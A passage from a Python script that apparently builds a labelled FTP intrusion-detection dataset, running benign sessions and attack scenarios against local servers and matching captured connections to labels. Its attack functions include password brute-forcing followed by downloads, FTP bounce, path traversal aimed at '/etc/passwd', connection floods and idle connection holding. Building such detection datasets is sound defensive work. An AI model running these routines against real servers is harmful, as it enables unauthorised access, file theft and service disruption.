            resp = r.cmd(cmd if cmd == "STOU" else f"{cmd} {name}", timeout=10)
            if data is not None:
                if code_of(resp) in ("150", "125"):
                    try:
                        data.sendall(small_payload(rng))
                    except OSError:
                        pass
                data.close()
                if code_of(resp) in ("150", "125"):
                    r.reply(timeout=10)
            if r.closed:
                break
        if r.closed:
            break
    if not r.closed:
        r.cmd("QUIT", timeout=5)
    r.close()


def a_connect_flood(ctx: Ctx) -> None:
    """One connection of a flood: QUIT right after the banner, or close (FIN or RST) without a word."""
    rng = ctx.rng
    r = Raw(ctx, timeout=10)
    kind = rng.random()
    if kind < 0.15:  # gone before the banner
        r.close(rst=rng.random() < 0.5)
        return
    r.reply()
    if kind < 0.6:
        r.cmd("QUIT", timeout=5)
        r.close()
    else:
        r.close(rst=kind > 0.85)


def a_never_quit(ctx: Ctx) -> None:
    """Holds the connection: a long NOOP loop, or silence until the server's idle timeout closes it."""
    rng = ctx.rng
    r = Raw(ctx, timeout=90)
    r.reply()
    if rng.random() < 0.6:
        _login_raw(r, rng)
    if rng.random() < 0.5:
        for _ in range(rng.randint(80, 160)):
            time.sleep(0.25)
            r.cmd("NOOP", timeout=10)
            if r.closed:
                break
        r.close()  # just drop it, no QUIT
    else:
        r.reply(timeout=90)  # wait for the server's timeout message and close
        r.close()


def a_bruteforce_then_download(ctx: Ctx) -> None:
    """Guesses until the right password turns up, then downloads."""
    rng = ctx.rng
    user = rng.choice(list(USERS))
    limit = 4 if ctx.server == "pure-ftpd" else 9  # below each server's disconnect threshold
    guesses = rng.sample(PASSWORDS, rng.randint(3, limit)) + [USERS[user]]
    r = Raw(ctx, timeout=60)
    r.reply()
    for g in guesses:
        r.cmd(f"USER {user}")
        if code_of(r.cmd(f"PASS {g}")) == "230" or r.closed:
            break
    if r.closed:
        r.close()
        return
    r.cmd("TYPE I")
    for name in rng.sample(USER_FILES, rng.randint(1, 3)):
        resp = r.cmd("PASV")
        if code_of(resp) != "227":
            break
        nums = resp[resp.index("(") + 1:resp.index(")")].split(",")
        data = socket.create_connection((ctx.addr[0], int(nums[4]) * 256 + int(nums[5])), 5,
                                        source_address=(ctx.src, 0))
        resp = r.cmd(f"RETR {name}", timeout=10)
        data.settimeout(5)
        try:
            while data.recv(65536):
                pass
        except OSError:
            pass
        data.close()
        if code_of(resp) in ("150", "125"):
            r.reply(timeout=10)
    r.cmd("QUIT", timeout=5)
    r.close()


# name: (function, sessions per server, parallel workers)
ATTACKS = {
    "bruteforce-in-session": (a_bruteforce_in_session, 8, 8),
    "bruteforce-across-sessions": (a_bruteforce_across, 30, 10),
    "user-enumeration": (a_user_enum, 8, 4),
    "bounce-port": (a_bounce_port, 8, 4),
    "bounce-eprt": (a_bounce_eprt, 8, 4),
    "path-traversal": (a_traversal, 8, 4),
    "overlong-args": (a_overlong, 8, 4),
    "site-abuse": (a_site_abuse, 8, 4),
    "pre-login-commands": (a_pre_login, 8, 4),
    "garbage-commands": (a_garbage, 8, 4),
    "anon-upload": (a_anon_upload, 8, 4),
    "connect-flood": (a_connect_flood, 40, 4),
    "never-quit": (a_never_quit, 7, 21),
    "bruteforce-then-download": (a_bruteforce_then_download, 8, 8),
}
# One address block per attack scenario (127.0.2.16k+1 ...), one address for the across-session ones.
SINGLE_SOURCE = {"bruteforce-across-sessions", "connect-flood"}


def attack_src(scenario: str, i: int) -> str:
    k = list(ATTACKS).index(scenario)
    return f"{ATTACK_NET}{16 * k + 1 + (0 if scenario in SINGLE_SOURCE else i % 8)}"


# ------------------------------------------------------------------------------------------ bounce target
class BounceListener:
    """Our own listener on the third address: accepts what bounced servers send, and counts it."""

    def __init__(self):
        self.socks = []
        self.received = 0
        self.connections = 0
        self.stop = threading.Event()
        for p in BOUNCE_OPEN_PORTS:
            s = socket.create_server((BOUNCE_ADDR, p), backlog=64)
            s.settimeout(0.5)
            self.socks.append(s)
            threading.Thread(target=self.serve, args=(s,), daemon=True).start()

    def serve(self, s: socket.socket) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = s.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            self.connections += 1
            threading.Thread(target=self.drain, args=(conn,), daemon=True).start()

    def drain(self, conn: socket.socket) -> None:
        conn.settimeout(10)
        try:
            while data := conn.recv(65536):
                self.received += len(data)
        except OSError:
            pass
        conn.close()

    def close(self) -> None:
        self.stop.set()
        for s in self.socks:
            s.close()


# ------------------------------------------------------------------------------------------ phases
def session_rng(seed: int, phase: str, sid: str) -> random.Random:
    return random.Random(f"{seed}/{phase}/{sid}")


def run_benign(slog: SessionLog, seed: int, n_ftplib: int = 390, n_tools: int = 54,
               servers: dict = SERVERS, phase: str = "benign") -> None:
    plan_rng = random.Random(f"{seed}/{phase}/plan")
    kinds = [k for k, (_, w) in BENIGN_KINDS.items() for _ in range(w)]
    names = list(servers)
    jobs = []
    for i in range(n_ftplib):
        server = names[i % len(names)]
        kind = plan_rng.choice(kinds)
        src = f"{BENIGN_NET}{plan_rng.randint(10, 99)}"
        sid = f"b{i:03d}"
        ctx = Ctx(slog, "benign", kind, server, servers[server], src, session_rng(seed, phase, sid), sid)
        jobs.append((ctx, BENIGN_KINDS[kind][0]))
    tool_jobs = []
    for j in range(n_tools):
        server = names[j % len(names)]
        tool = "lftp" if j % 2 == 0 else "curl"
        sid = f"t{j:03d}"
        src = f"{BENIGN_NET}{200 + j % 55}"
        ctx = Ctx(slog, "benign", f"{tool}-session", server, servers[server], src,
                  session_rng(seed, phase, sid), sid)
        tool_jobs.append(ctx)
    with tempfile.TemporaryDirectory(prefix="ftp-ids-tools-") as tmp:
        def tools() -> None:  # one at a time: each invocation is alone on its source address
            for ctx in tool_jobs:
                (lftp_session if ctx.scenario == "lftp-session" else curl_session)(ctx, tmp)
        t = threading.Thread(target=tools)
        t.start()
        with ThreadPoolExecutor(max_workers=6) as pool:
            list(pool.map(lambda job: run_ftplib_session(*job), jobs))
        t.join()


def run_attack_scenario(slog: SessionLog, seed: int, scenario: str, servers: dict = SERVERS,
                        per_server: int | None = None, phase: str = "attacks") -> None:
    fn, n, workers = ATTACKS[scenario]
    n = per_server or n
    ctxs = []
    names = list(servers)
    for i in range(n * len(names)):
        server = names[i % len(names)]
        sid = f"{scenario}-{i:03d}"
        ctxs.append(Ctx(slog, "attack", scenario, server, servers[server], attack_src(scenario, i),
                        session_rng(seed, phase, sid), sid))

    def one(ctx: Ctx) -> None:
        try:
            fn(ctx)
        except (OSError, EOFError, ValueError) as e:
            log(f"{scenario} {ctx.server} {ctx.sid}: {type(e).__name__}: {e}")
    with ThreadPoolExecutor(max_workers=workers) as pool:
        list(pool.map(one, ctxs))


def run_attacks(slog: SessionLog, seed: int) -> None:
    listener = BounceListener()
    try:
        with ThreadPoolExecutor(max_workers=5) as pool:
            # the slow ones first (Pure-FTPd's growing delays, idle timeouts), the quick ones beside them
            order = ["never-quit", "bruteforce-in-session", "bruteforce-then-download", "bruteforce-across-sessions"]
            order += [s for s in ATTACKS if s not in order]
            futures = [pool.submit(run_attack_scenario, slog, seed, s) for s in order]
            for f in futures:
                f.result()
        log(f"bounce listener: {listener.connections} connections, {listener.received} bytes")
    finally:
        listener.close()


def run_small(slog: SessionLog, seed: int) -> None:
    """A few benign sessions and one attack, for the SLL/SLL2 pair."""
    run_benign(slog, seed, n_ftplib=6, n_tools=2, phase="small")
    run_attack_scenario(slog, seed, "bruteforce-in-session", {"proftpd": SERVERS["proftpd"]}, 1, phase="small")


def run_ipv6(slog: SessionLog, seed: int) -> None:
    jobs = []
    names = list(SERVERS6)
    kinds = ["anon-browse", "user-download", "user-upload", "dir-work", "feature-probe", "failed-then-login"]
    for i, kind in enumerate(kinds):
        server = names[i % len(names)]
        sid = f"v{i:02d}"
        rng = session_rng(seed, "ipv6", sid)
        ctx = Ctx(slog, "benign", kind, server, SERVERS6[server], "::1", rng, sid)
        c = Client(ctx, "epsv")  # passive: an active-mode EPRT on ::1 works too, but lftp announces ::
        try:
            c.open()
            BENIGN_KINDS[kind][0](ctx, c)
            c.safe_quit()
        except (OSError, EOFError, ftplib.Error) as e:
            log(f"ipv6 {kind} {server}: {type(e).__name__}: {e}")
            c.close()
    with tempfile.TemporaryDirectory(prefix="ftp-ids-tools-") as tmp:
        for j, server in enumerate(names):
            ctx = Ctx(slog, "benign", "lftp-session", server, SERVERS6[server], "::1",
                      session_rng(seed, "ipv6", f"t{j}"), f"t{j}")
            lftp_session(ctx, tmp)
    for j, server in enumerate(names):
        sid = f"a{j}"
        ctx = Ctx(slog, "attack", "path-traversal", server, SERVERS6[server], "::1",
                  session_rng(seed, "ipv6", sid), sid)
        try:
            a_traversal_v6(ctx)
        except OSError as e:
            log(f"ipv6 traversal {server}: {e}")


def a_traversal_v6(ctx: Ctx) -> None:
    r = Raw(ctx, timeout=20)
    r.reply()
    _login_raw(r, ctx.rng)
    for line in ["CWD ../../..", "CWD /etc", "SIZE ../../../etc/passwd", "MDTM ../../../etc/hosts"]:
        r.cmd(line)
    r.cmd("QUIT", timeout=5)
    r.close()


# ------------------------------------------------------------------------------------------ labelling
def pcap_syns(path: str):
    """Yield (ts, src_ip, src_port, dst_ip, dst_port) for each initial SYN (SYN without ACK) in a classic pcap
    (Ethernet, Linux cooked SLL/SLL2, raw IP)."""
    with open(path, "rb") as f:
        data = f.read()
    magic = data[:4]
    if magic in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1"):
        endian = "<"
    elif magic in (b"\xa1\xb2\xc3\xd4", b"\xa1\xb2\x3c\x4d"):
        endian = ">"
    else:
        raise ValueError(f"{path}: not a classic pcap")
    nano = magic in (b"\x4d\x3c\xb2\xa1", b"\xa1\xb2\x3c\x4d")
    linktype = struct.unpack(endian + "I", data[20:24])[0] & 0x0FFFFFFF
    off = 24
    while off + 16 <= len(data):
        sec, frac, incl, _orig = struct.unpack(endian + "IIII", data[off:off + 16])
        pkt = data[off + 16:off + 16 + incl]
        off += 16 + incl
        if len(pkt) < incl:
            break
        ts = sec + frac / (1e9 if nano else 1e6)
        if linktype == 1:
            etype, l3 = struct.unpack(">H", pkt[12:14])[0], 14
        elif linktype == 113:
            etype, l3 = struct.unpack(">H", pkt[14:16])[0], 16
        elif linktype == 276:
            etype, l3 = struct.unpack(">H", pkt[0:2])[0], 20
        elif linktype in (101, 12, 14):
            etype, l3 = (0x0800 if pkt[0] >> 4 == 4 else 0x86DD), 0
        else:
            raise ValueError(f"{path}: link type {linktype} not handled")
        if etype == 0x0800:
            ihl = (pkt[l3] & 15) * 4
            if pkt[l3 + 9] != 6:
                continue
            src, dst = socket.inet_ntop(socket.AF_INET, pkt[l3 + 12:l3 + 16]), \
                socket.inet_ntop(socket.AF_INET, pkt[l3 + 16:l3 + 20])
            l4 = l3 + ihl
        elif etype == 0x86DD:
            if pkt[l3 + 6] != 6:  # the captures here carry no IPv6 extension headers
                continue
            src, dst = socket.inet_ntop(socket.AF_INET6, pkt[l3 + 8:l3 + 24]), \
                socket.inet_ntop(socket.AF_INET6, pkt[l3 + 24:l3 + 40])
            l4 = l3 + 40
        else:
            continue
        sport, dport = struct.unpack(">HH", pkt[l4:l4 + 4])
        flags = pkt[l4 + 13]
        if flags & 0x02 and not flags & 0x10:
            yield ts, src, sport, dst, dport


def control_connections(pcap: str, servers: set) -> list:
    """Distinct control connections (a SYN repeated for the same 4-tuple within 3 s is one)."""
    seen: dict = {}
    out = []
    for ts, src, sport, dst, dport in pcap_syns(pcap):
        if (dst, dport) not in servers:
            continue
        key = (src, sport, dst, dport)
        if key in seen and ts - seen[key] < 3:
            continue
        seen[key] = ts
        out.append((ts, src, sport, dst, dport))
    return out


LABEL_FIELDS = ["client_ip", "client_port", "server_ip", "server_port", "class", "scenario", "server"]


def write_labels(path: str, rows: list[dict]) -> None:
    with open(path, "w", newline="", encoding="utf-8") as f:
        w = csv.DictWriter(f, fieldnames=LABEL_FIELDS, lineterminator="\n")
        w.writeheader()
        w.writerows(rows)


def label(sessions_files: list[str], pcaps: list[str]) -> list[dict]:
    """Each control connection in the captures, matched to the session that opened it; fails when a
    connection has no session or a session no connection."""
    rows = []
    for sf in sessions_files:
        with open(sf, encoding="utf-8") as f:
            rows += [json.loads(line) for line in f if line.strip()]
    servers = {(r["server_ip"], r["server_port"]) for r in rows}
    conns = []
    for p in pcaps:
        conns += control_connections(p, servers)
    exact: dict = {}
    windows: dict = {}
    for r in rows:
        if r["client_port"] is not None:
            exact.setdefault((r["client_ip"], r["client_port"], r["server_ip"], r["server_port"]), []).append(r)
        else:
            windows.setdefault((r["client_ip"], r["server_ip"], r["server_port"]), []).append(r)
    labelled = []
    unmatched = []
    used = set()
    for ts, src, sport, dst, dport in sorted(conns):
        cands = exact.get((src, sport, dst, dport), [])
        best = min(cands, key=lambda r: abs(r["t"] - ts), default=None)
        if best is None or abs(best["t"] - ts) > 5:
            best = next((r for r in windows.get((src, dst, dport), []) if r["t0"] <= ts <= r["t1"]), None)
        if best is None:
            unmatched.append((ts, src, sport, dst, dport))
            continue
        used.add(id(best))
        labelled.append({"client_ip": src, "client_port": sport, "server_ip": dst, "server_port": dport,
                         "class": best["class"], "scenario": best["scenario"], "server": best["server"]})
    missing = [r for r in rows if id(r) not in used]
    for u in unmatched:
        log(f"label: connection without a session: {u}")
    for m in missing:
        log(f"label: session without a connection in the capture: {m}")
    if unmatched or missing:
        raise SystemExit(f"label: {len(unmatched)} unmatched connections, {len(missing)} sessions not captured")
    keys = [(r["client_ip"], r["client_port"], r["server_ip"], r["server_port"]) for r in labelled]
    if len(set(keys)) != len(keys):
        raise SystemExit("label: a 4-tuple occurs twice; labels by endpoints would be ambiguous")
    return labelled


def summary_table(labelled: list[dict]) -> str:
    counts: dict = {}
    for r in labelled:
        counts.setdefault((r["class"], r["scenario"]), {}).setdefault(r["server"], 0)
        counts[(r["class"], r["scenario"])][r["server"]] += 1
    lines = ["| class | scenario | " + " | ".join(SERVER_NAMES) + " | total |",
             "|---|---|" + "---:|" * (len(SERVER_NAMES) + 1)]
    for (cls, sc), per in sorted(counts.items()):
        lines.append(f"| {cls} | {sc} | " + " | ".join(str(per.get(s, 0)) for s in SERVER_NAMES)
                     + f" | {sum(per.values())} |")
    tot = {s: sum(1 for r in labelled if r["server"] == s) for s in SERVER_NAMES}
    lines.append("| **all** | | " + " | ".join(str(tot[s]) for s in SERVER_NAMES) + f" | {len(labelled)} |")
    return "\n".join(lines)


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--work", required=True)
    ap.add_argument("--seed", type=int, default=20261128)
    sub = ap.add_subparsers(dest="cmd", required=True)
    r = sub.add_parser("run")
    r.add_argument("phase", choices=["benign", "attacks", "small", "ipv6"])
    r.add_argument("--sessions", required=True)
    lab = sub.add_parser("label")
    lab.add_argument("--sessions-dir", required=True)
    lab.add_argument("--captures-dir", required=True)
    lab.add_argument("--out", required=True)
    lab.add_argument("--readme", help="samples/README.md: its counts section is rewritten into OUT/README.md")
    args = ap.parse_args()
    if args.cmd == "run":
        slog = SessionLog(args.sessions)
        t = time.time()
        {"benign": run_benign, "attacks": run_attacks, "small": run_small, "ipv6": run_ipv6}[args.phase](
            slog, args.seed)
        slog.close()
        log(f"{args.phase}: {slog.count} control connections in {time.time() - t:.0f} s")
        return
    sd, cd, out = args.sessions_dir, args.captures_dir, args.out
    phases = [p for p in ("benign", "attacks") if os.path.exists(f"{sd}/{p}.jsonl")]
    main_rows = label([f"{sd}/{p}.jsonl" for p in phases], [f"{cd}/{p}.pcap" for p in phases])
    write_labels(f"{out}/labels.csv", main_rows)
    small_rows = []
    if os.path.exists(f"{sd}/small.jsonl"):
        small_rows = label([f"{sd}/small.jsonl"], [f"{cd}/sll.pcap"])
        # the SLL2 capture, taken at the same time, must hold exactly the same connections
        if label([f"{sd}/small.jsonl"], [f"{cd}/sll2.pcap"]) != small_rows:
            raise SystemExit("label: sll.pcap and sll2.pcap hold different connections")
    if os.path.exists(f"{sd}/ipv6.jsonl"):
        small_rows += label([f"{sd}/ipv6.jsonl"], [f"{cd}/ipv6.pcap"])
    write_labels(f"{out}/labels-small.csv", small_rows)
    with open(f"{out}/counts.md", "w", encoding="utf-8") as f:
        f.write("`benign.pcap` + `attacks.pcap` (`labels.csv`), control connections:\n\n" + summary_table(main_rows)
                + "\n\n`sll.pcap` = `sll2.pcap`, and `ipv6.pcap` (`labels-small.csv`):\n\n"
                + summary_table(small_rows) + "\n")
    if args.readme and os.path.exists(args.readme):
        with open(args.readme, encoding="utf-8") as f:
            text = f.read()
        begin, end = "<!-- counts:begin -->", "<!-- counts:end -->"
        if begin in text and end in text:
            with open(f"{out}/counts.md", encoding="utf-8") as f:
                counts = f.read()
            text = text[:text.index(begin) + len(begin)] + "\n" + counts + text[text.index(end):]
            with open(f"{out}/README.md", "w", encoding="utf-8") as f:
                f.write(text)
    log(f"labelled {len(main_rows)} + {len(small_rows)} control connections")


if __name__ == "__main__":
    main()
